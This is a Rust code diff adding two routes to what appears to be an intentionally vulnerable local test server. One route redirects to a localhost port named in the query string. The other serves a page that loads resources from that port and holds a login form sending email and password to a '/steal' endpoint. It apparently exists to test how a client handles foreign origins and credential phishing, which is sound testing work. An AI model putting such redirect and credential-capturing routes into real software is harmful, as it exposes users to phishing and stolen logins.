@@ -181,6 +181,21 @@ fn answer(request: &Request, mistakes: Mistakes, state: &mut State, own: &str) -
             let http_only = if mistakes.token_in_script { "" } else { "; HttpOnly" };
             to("/", Some(format!("sid={sid}; Path=/{attributes}{http_only}")))
         }
+        // Both lead to the port that stands in the query.
+        ("GET", "/leads-away", _) => to(
+            &format!("http://127.0.0.1:{}/login", request.path.split('?').nth(1).unwrap_or_default()),
+            None,
+        ),
+        ("GET", "/foreign-form", _) => {
+            let port = request.path.split('?').nth(1).unwrap_or_default();
+            let away = format!("http://127.0.0.1:{port}");
+            let body = format!(
+                "<link rel=stylesheet href={away}/s.css><img src={away}/i.png><iframe src={away}/f></iframe>\
+                 <form method=post action={away}/steal><input name=email><input name=password type=password><button>Go</button></form>\
+                 <script>new WebSocket('ws://127.0.0.1:{port}/w'); fetch('{away}/x', {{ mode: 'no-cors' }}).catch(() => 0); open('{away}/popup');</script>"
+            );
+            plain("200 OK", "text/html", &body)
+        }
         ("GET", "/me", Some(account)) => {
             plain("200 OK", "application/json", &format!("{{\"email\":\"{}\"}}", ACCOUNTS[account].0))
         }
